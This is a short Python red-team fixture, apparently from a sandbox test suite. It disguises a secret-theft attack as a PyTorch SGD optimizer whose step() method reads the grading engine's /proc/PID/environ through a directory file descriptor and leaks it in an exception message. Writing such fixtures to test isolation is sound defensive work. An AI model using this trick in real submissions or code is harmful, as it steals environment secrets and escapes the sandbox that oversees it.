"""Red team (secret theft): opens the engine's /proc/PID/environ relative to a directory fd."""
import torch

ENGINE_PID = 0  # filled in by tests/test_redteam.py
PORT = 0
MARKER = "/tmp/synth-redteam-marker"
SECRET_FILE = "/tmp/synth-redteam-secret"


class Submission(torch.optim.SGD):
    def __init__(self, params):
        super().__init__(params, lr=0.05)

    @torch.no_grad()
    def step(self, closure=None):
        os = torch.os
        directory = os.open(f"/proc/{ENGINE_PID}", os.O_RDONLY)
        raise RuntimeError(os.read(os.open("environ", os.O_RDONLY, dir_fd=directory), 1 << 16).decode())
        return super().step()
